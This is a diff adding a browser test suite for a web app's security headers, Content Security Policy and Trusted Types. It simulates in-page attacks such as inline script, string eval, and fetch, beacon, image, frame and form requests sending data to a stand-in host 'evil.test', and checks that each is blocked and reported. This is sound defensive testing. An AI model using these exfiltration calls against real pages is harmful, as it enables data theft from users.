@@ -1,0 +1,192 @@
+// The page's rules: the browser is told all of them, and they stop what they are there to stop.
+
+import assert from "node:assert/strict";
+import { readdir, readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { after, before, test } from "node:test";
+import { rules } from "../../src/release/headers.mjs";
+import { setStage } from "./stage.mjs";
+import { randomToken } from "./token.mjs";
+
+let stage;
+before(async () => {
+  stage = await setStage();
+});
+after(() => stage.close());
+
+test("the headers of each path are those of the table", async (t) => {
+  const guide = await stage.visit(t);
+  const assets = (await readdir("dist/assets")).filter((name) => !/\.(br|gz)$/.test(name));
+  let compared = 0;
+  for (const path of ["/", "/index.html", "/404.html", "/version.json", ...assets.map((name) => `/assets/${name}`)]) {
+    const seen = await guide.page.evaluate(async (path) => {
+      const { status, headers } = await fetch(path, { cache: "no-store" });
+      return { status, headers: Object.fromEntries(headers) };
+    }, path);
+    assert.equal(seen.status, 200, path);
+    const meant = rules.filter(([pattern]) => new RegExp(`^${pattern.replaceAll("*", ".*")}$`).test(path));
+    for (const [name, value] of meant.flatMap(([, headers]) => Object.entries(headers))) {
+      assert.equal(seen.headers[name.toLowerCase()], value, `${path} ${name}`);
+      compared += 1;
+    }
+  }
+  t.diagnostic(`${compared} headers`);
+});
+
+/** What an attacker in the page might try. Each answers whether it worked. */
+const attacks = {
+  "an inline script": () => {
+    const script = document.createElement("script");
+    script.setAttribute("nonce", "x");
+    try {
+      script.text = "window.ran = true";
+    } catch {}
+    document.head.append(script);
+    return "ran" in window;
+  },
+  "markup from text": () => {
+    try {
+      document.body.insertAdjacentHTML("beforeend", '<i id="made"></i>');
+    } catch {}
+    return document.querySelector("#made") !== null;
+  },
+  "a text as code": () => {
+    try {
+      return new Function("return true")();
+    } catch {
+      return false;
+    }
+  },
+  "a timer with a text": async () => {
+    try {
+      setTimeout("window.timed = true", 0);
+    } catch {}
+    await new Promise((passed) => setTimeout(passed, 50));
+    return "timed" in window;
+  },
+  "a policy of its own for markup": () => {
+    try {
+      return trustedTypes.createPolicy("default", { createHTML: (text) => text }) !== undefined;
+    } catch {
+      return false;
+    }
+  },
+  "a call to another host": () =>
+    fetch("https://evil.test/", { method: "POST", body: "x" }).then(
+      () => true,
+      () => false,
+    ),
+  "a message to another host": () => {
+    navigator.sendBeacon("https://evil.test/beacon", "x");
+    return false;
+  },
+  "a picture of another host": () =>
+    new Promise((ended) => {
+      const picture = new Image();
+      picture.onload = picture.onerror = ({ type }) => ended(type === "load");
+      picture.src = "https://evil.test/x.png";
+    }),
+  "a frame": () =>
+    new Promise((ended) => {
+      const frame = document.createElement("iframe");
+      frame.src = "https://evil.test/frame";
+      document.body.append(frame);
+      setTimeout(() => ended(false), 200);
+    }),
+  "a form to another host": () => {
+    const form = document.createElement("form");
+    form.action = "https://evil.test/form";
+    document.body.append(form);
+    form.submit();
+    return new Promise((passed) => setTimeout(passed, 200)).then(() => location.host !== "app.test");
+  },
+  "a foreign base address": () => {
+    const base = document.createElement("base");
+    base.href = "https://evil.test/";
+    document.head.append(base);
+    return document.baseURI.startsWith("https://evil.test");
+  },
+  "a worker": () => {
+    try {
+      new Worker("/version.json");
+      return true;
+    } catch {
+      return false;
+    }
+  },
+  "a style in the page": () => {
+    const style = document.createElement("style");
+    style.textContent = "body { --planted: 1 }";
+    document.head.append(style);
+    return getComputedStyle(document.body).getPropertyValue("--planted") !== "";
+  },
+};
+
+test("what the rules forbid does not happen, and is noticed", async (t) => {
+  const unnoticed = [];
+  const worked = [];
+  for (const [name, attack] of Object.entries(attacks)) {
+    const guide = await stage.visit(t, "/", { mayViolate: true });
+    const heard = stage.console.length;
+    if (await guide.page.evaluate(attack)) worked.push(name);
+    await guide.page.waitForTimeout(50);
+    if (!stage.console.slice(heard).some((text) => /Content Security Policy|Trusted/.test(text))) unnoticed.push(name);
+  }
+  assert.deepEqual(worked, []);
+  assert.deepEqual(unnoticed, [], "the ear of this suite hears every kind of violation");
+  assert.deepEqual(
+    stage.hosts.log.filter(({ host }) => host === "evil.test"),
+    [],
+  );
+  t.diagnostic(`${Object.keys(attacks).length} attacks`);
+});
+
+/** Which files are changed, and what the page says of it then; without its script it can say nothing. */
+const changes = { wasm: "failed", js: undefined };
+
+for (const [extension, reason] of Object.entries(changes)) {
+  test(`one changed byte of .${extension} is refused`, async (t) => {
+    const name = (await readdir("dist/assets")).find((name) => name.endsWith(`.${extension}`));
+    await stage.serveChanged(`changed-${extension}.test`, async (dir) => {
+      const file = join(dir, "assets", name);
+      const bytes = await readFile(file);
+      bytes[bytes.length - 2] ^= 1;
+      await writeFile(file, bytes);
+    });
+    const context = await stage.browser.newContext();
+    t.after(() => context.close());
+    const page = await context.newPage();
+    await page.goto(`https://changed-${extension}.test/`, { waitUntil: "networkidle" });
+    assert.equal(await page.locator("main").count(), 0);
+    if (reason) assert.ok(await page.locator(`[data-reason="${reason}"]`).isVisible());
+  });
+}
+
+test("a fault of the program takes everything from the page", async (t) => {
+  const token = randomToken();
+  await stage.graph.world("good", token);
+  const guide = await stage.visit(t, "/#/step/4");
+  assert.equal(await guide.checkPasted(token), "ready");
+  await guide.page.evaluate(() => {
+    dispatchEvent(new ErrorEvent("error", { error: new WebAssembly.RuntimeError("unreachable") }));
+  });
+  await guide.page.locator('[data-reason="stopped"]').waitFor();
+  assert.equal(await guide.page.locator("main, input, [data-check]").count(), 0);
+});
+
+test("a secret in the address is taken out of it, and out of the history", async (t) => {
+  const token = randomToken();
+  const guide = await stage.visit(t, `/?app=301500000000001&access_token=${token}#/step/4`);
+  await guide.seeScreen("step-4");
+  await guide.page.getByRole("alert").first().waitFor();
+  assert.equal(guide.page.url(), "https://app.test/?app=301500000000001#/step/4");
+  await guide.next();
+  await guide.seeScreen("step-5");
+  await guide.page.goBack();
+  await guide.seeScreen("step-4");
+  assert.ok(!guide.page.url().includes(token));
+  await guide.check();
+  await guide.seePaste("empty");
+});
+
+test("nothing complained", () => stage.assertQuiet());
